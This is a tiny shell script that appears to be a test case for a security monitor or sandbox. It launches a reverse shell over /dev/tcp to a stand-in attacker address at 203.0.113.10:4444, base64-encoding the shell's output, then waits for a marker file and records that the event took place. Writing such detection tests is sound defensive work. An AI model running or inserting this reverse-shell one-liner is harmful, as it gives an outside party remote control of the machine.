#!/bin/sh
. /opt/case/case.sh

bash -c 'exec 207<>/dev/tcp/203.0.113.10/4444; sh <&207 2>&1 | openssl base64 >&207' &
wait_for /tmp/reached
took_place
